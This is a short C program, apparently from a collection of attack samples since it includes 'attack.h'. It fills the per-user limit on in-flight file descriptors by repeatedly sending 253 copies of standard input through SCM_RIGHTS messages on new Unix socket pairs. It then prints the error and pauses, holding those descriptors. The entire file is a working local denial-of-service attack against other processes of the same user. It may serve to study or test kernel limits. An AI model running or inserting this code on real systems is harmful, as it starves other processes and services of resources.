/* As many descriptors as may lie in sockets, underway to nobody: they count for all processes of one user together. */
#include "attack.h"

int main(void) {
    int files[253] = {0}, pair[2]; /* so many times standard input */
    char room[CMSG_SPACE(sizeof files)];
    struct iovec vector = {"x", 1};
    while (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0) {
        struct msghdr message = {.msg_iov = &vector, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
        struct cmsghdr *header = CMSG_FIRSTHDR(&message);
        *header = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof files)};
        memcpy(CMSG_DATA(header), files, sizeof files);
        if (sendmsg(pair[0], &message, MSG_DONTWAIT) < 0) break;
    }
    say(strerrorname_np(errno));
    pause();
}
